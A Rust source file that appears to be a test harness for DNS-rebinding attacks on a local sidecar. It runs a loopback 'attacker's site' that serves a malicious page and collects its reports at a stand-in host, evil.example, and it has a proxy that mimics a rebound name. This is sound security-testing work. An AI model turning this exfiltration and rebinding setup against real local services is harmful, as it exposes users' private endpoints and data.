//! Serves the page: from a site of its own, or from a name that is rebound to the sidecar after the page has loaded.

use std::collections::HashMap;
use std::sync::{Arc, Mutex};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use tokio::sync::mpsc;

const PAGE: &str = include_str!("page.html");

type Pages = Arc<Mutex<HashMap<String, String>>>;

/// An attacker's site, which also receives the reports.
pub struct Site {
    pub port: u16,
    pub reports: mpsc::Receiver<Value>,
    pages: Pages,
}

/// An address that serves its pages itself and proxies the rest to another, like a rebound name.
pub struct Led {
    pub port: u16,
    pages: Pages,
}

impl Site {
    pub async fn start() -> Self {
        let (listener, port) = bound().await;
        let (report, reports) = mpsc::channel(8);
        let pages = Pages::default();
        let shared = Arc::clone(&pages);
        tokio::spawn(async move {
            while let Ok((tcp, _)) = listener.accept().await {
                tokio::spawn(serve(tcp, Arc::clone(&shared), report.clone()));
            }
        });
        Self {
            port,
            reports,
            pages,
        }
    }

    /// The malicious page.
    pub fn page(&self, name: &str, targets: Value, batch: &[u8]) -> String {
        let settings = json!({
            "name": name,
            "targets": targets,
            "batch": STANDARD.encode(batch),
            "report": format!("http://evil.example:{}/report", self.port),
        });
        // An empty target is the page's own origin.
        let settings = settings
            .to_string()
            .replace("\":\"\"}", "\":location.origin}");
        PAGE.replace("SETTINGS", &settings)
    }

    pub fn puts(&self, path: &str, page: String) {
        self.pages.lock().unwrap().insert(path.to_owned(), page);
    }
}

impl Led {
    pub async fn to(host: &str) -> Self {
        let (listener, port) = bound().await;
        let (host, pages) = (host.to_owned(), Pages::default());
        let shared = Arc::clone(&pages);
        tokio::spawn(async move {
            while let Ok((tcp, _)) = listener.accept().await {
                tokio::spawn(lead(tcp, Arc::clone(&shared), host.clone()));
            }
        });
        Self { port, pages }
    }

    pub fn puts(&self, path: &str, page: String) {
        self.pages.lock().unwrap().insert(path.to_owned(), page);
    }
}

async fn bound() -> (TcpListener, u16) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    (listener, port)
}

fn asked_for(pages: &Pages, request: &str) -> Option<String> {
    let path = request.split(' ').nth(1)?;
    pages.lock().unwrap().get(path).cloned()
}

/// The connection closes after the response.
async fn give(tcp: &mut TcpStream, page: &str) {
    let answer = format!(
        "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\nconnection: close\r\ncontent-length: {}\r\n\r\n{page}",
        page.len()
    );
    // The browser may have closed early.
    tcp.write_all(answer.as_bytes()).await.unwrap_or_default();
}

async fn serve(mut tcp: TcpStream, pages: Pages, report: mpsc::Sender<Value>) {
    let (mut request, mut piece) = (Vec::new(), vec![0; 64 * 1024]);
    while let Ok(len @ 1..) = tcp.read(&mut piece).await {
        request.extend_from_slice(&piece[..len]);
        let text = String::from_utf8_lossy(&request);
        let Some((head, body)) = text.split_once("\r\n\r\n") else {
            continue;
        };
        if head.starts_with("POST /report ") {
            // An incomplete body is not valid JSON.
            let Ok(whole) = serde_json::from_str(body) else {
                continue;
            };
            report.send(whole).await.unwrap_or_default();
        } else if let Some(page) = asked_for(&pages, head) {
            return give(&mut tcp, &page).await;
        }
        let nothing = b"HTTP/1.1 204 No Content\r\nconnection: close\r\n\r\n";
        return tcp.write_all(nothing).await.unwrap_or_default();
    }
}

async fn lead(mut tcp: TcpStream, pages: Pages, host: String) {
    let mut start = vec![0; 16 * 1024];
    let Ok(len @ 1..) = tcp.peek(&mut start).await else {
        return;
    };
    let request = String::from_utf8_lossy(&start[..len]).into_owned();
    if let Some(page) = asked_for(&pages, &request) {
        // An unread body would reset the connection under the page.
        tcp.read_exact(&mut start[..len]).await.unwrap();
        return give(&mut tcp, &page).await;
    }
    let mut led = TcpStream::connect(&host).await.unwrap();
    // If either side closes, so does the other.
    let _bytes = tokio::io::copy_bidirectional(&mut tcp, &mut led).await;
}
